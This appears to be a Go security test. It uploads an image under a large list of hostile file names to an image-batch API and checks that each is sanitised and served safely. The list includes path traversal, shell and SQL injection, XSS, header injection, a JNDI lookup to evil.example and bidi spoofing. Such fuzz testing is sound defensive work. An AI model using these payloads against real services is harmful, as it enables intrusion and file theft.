package main

import (
	"context"
	"fmt"
	"net/http"
	"os"
	"path"
	"strings"
	"unicode"
)

// names are what a file is to be called in other people's file systems, terminals,
// headers and pages.
var names = []string{
	"../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/passwd", "C:\\a.jpg", "\\\\evil.example\\share\\a.jpg", "..", ".", "./a.jpg", "a/../../b.jpg", "....//....//a.jpg",
	"%2e%2e%2fa.jpg", "..%c0%af..%c0%afa.jpg", "..／..／a.jpg", "․․/a.jpg", "a.jpg/", "/", "//", "~root/.ssh/authorized_keys", ".htaccess", ".jpg", "-rf", "--help", "|id", "`id`.jpg", "$(id).jpg", "a;id.jpg", "a&&id.jpg",
	"a\x00.jpg", "a\x00b/../c.jpg", "a\r\nSet-Cookie: a=b.jpg", "a\nb.jpg", "a\tb.jpg", "\x1b[2Ja.jpg", "\x07a.jpg", "\x7fa.jpg", "\u0085a.jpg", "\u2028a.jpg",
	"\u202egpj.exe", "a\u2066b\u2069.jpg", "\u200f\u200ea.jpg", "\u061ca.jpg", "\u200b\u200ba.jpg", "\ufeffa.jpg", "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A.jpg", "ﷺ.jpg", "👩‍👩‍👧‍👦.jpg", "é.jpg", "İı.jpg",
	`a".jpg`, `a"; filename="b.exe`, "a';b.jpg", `"><script>alert(1)</script>.jpg`, "<img src=x onerror=alert(1)>.jpg", "' OR 1=1 --.jpg", "'; DROP TABLE jobs; --", "${jndi:ldap://evil.example/a}.jpg", "{{7*7}}.jpg", "%s%s%n.jpg",
	"=cmd|'/c calc'!A1", "CON", "nul.jpg", "aux.png", "COM1.jpg", "a.jpg ", " a.jpg", "a.jpg.", "a.php", "a.php.jpg", "a.html", "a.svg", "a.jpg;.php", "a.jpg::$DATA", "a:b.jpg", "a*?.jpg",
	strings.Repeat("a", 1024), strings.Repeat("é", 512), strings.Repeat("a/", 500) + "a.jpg", strings.Repeat(".", 1000), strings.Repeat("a", 250) + ".jpg", strings.Repeat("../", 300) + "a",
}

// attackNames gives honest images these names. Refused is: the image completes, what it
// is called has no control character and its place is one safe name below its
// trace id; a name of 10 kB is a 400.
func attackNames(ctx context.Context, t *target, r *tally) {
	batch := make([]source, len(names))
	for i, name := range names {
		batch[i] = source{Base64: inline(photograph).Base64, Name: name}
	}
	j, err := t.process(ctx, batch...)
	for i, name := range names {
		outcome := err
		if err == nil {
			outcome = t.safe(ctx, j, i)
		}
		r.note(fmt.Sprintf("%.60q", name), outcome)
	}
	for _, name := range []string{strings.Repeat("a", 10_000), strings.Repeat("../", 3500), strings.Repeat("\u202e", 3500)} {
		_, err := t.submit(ctx, source{Base64: inline(photograph).Base64, Name: name})
		if err == nil || !strings.Contains(err.Error(), `"status":400`) {
			err = fmt.Errorf("got %w, want 400", err)
		} else {
			err = nil
		}
		r.note(fmt.Sprintf("%.20q of 10 kB", name), err)
	}
	if t.dir != "" {
		entries, err := os.ReadDir(t.dir)
		if err == nil && (len(entries) != 1 || entries[0].Name() != "data") {
			err = fmt.Errorf("beside the data there is now %v", entries)
		}
		r.note("nothing outside the data folder", err)
	}
}

// safe holds that nothing hostile is left of an image's name.
func (t *target) safe(ctx context.Context, j *job, i int) error {
	img := j.Images[i]
	if img.Status != "completed" {
		return fmt.Errorf("got %+v", img)
	}
	for _, r := range img.Name {
		if unicode.IsControl(r) || unicode.Is(unicode.Bidi_Control, r) || r == '\u2028' {
			return fmt.Errorf("it is called %q", img.Name)
		}
	}
	base, ok := strings.CutPrefix(img.Path, img.TraceID+"/")
	if !ok || path.Clean(img.Path) != img.Path || strings.HasPrefix(base, ".") || len(base) > 200 || len(img.TraceID) != 32 {
		return fmt.Errorf("it lies at %q", img.Path)
	}
	for _, r := range base {
		if !unicode.IsLetter(r) && !unicode.IsDigit(r) && !unicode.IsMark(r) && !strings.ContainsRune(" ._-()+", r) {
			return fmt.Errorf("it lies at %q", img.Path)
		}
	}
	a, err := t.do(ctx, http.MethodGet, fmt.Sprintf("/api/v1/batch/%s/images/%d/file", j.ID, i), nil)
	if err != nil || a.status != http.StatusOK || a.header.Get("Set-Cookie") != "" || !strings.HasPrefix(a.header.Get("Content-Disposition"), "attachment") {
		return fmt.Errorf("its file: %d with %v, %w", a.status, a.header, err)
	}
	return nil
}
